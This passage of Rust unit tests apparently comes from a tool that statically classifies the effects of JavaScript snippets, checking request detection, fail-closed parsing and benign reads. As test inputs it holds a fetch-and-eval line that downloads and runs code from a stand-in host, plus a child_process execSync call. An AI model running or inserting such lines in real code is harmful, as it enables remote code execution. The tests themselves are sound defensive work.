        let f = js("fetch('https://x.example/p.js').then(r => r.text()).then(eval)");
        assert!(
            f.effects
                .contains(&Effect::Request(s("https://x.example/p.js")))
        );
    }

    #[test]
    fn parse_errors_fail_closed() {
        assert!(
            !js("require('child_process').execSync('id'")
                .errors
                .is_empty()
        );
        let deep = format!("x = {}1{}", "[".repeat(400), "]".repeat(400));
        assert!(!js(&deep).errors.is_empty());
    }

    #[test]
    fn benign_code_has_no_effects() {
        for code in [
            "console.log(1+1)",
            "console.log(require('fs').readdirSync('.'))",
            "console.log(process.version)",
            "console.log(JSON.parse(require('fs').readFileSync(0, 'utf8')).x)",
        ] {
            let f = js(code);
            assert!(
                f.effects.iter().all(|e| matches!(e, Effect::Read(_))),
                "{code}: {:?}",
                f.effects
            );
            assert!(f.errors.is_empty() && !f.eval_unknown, "{code}");
        }
    }
}
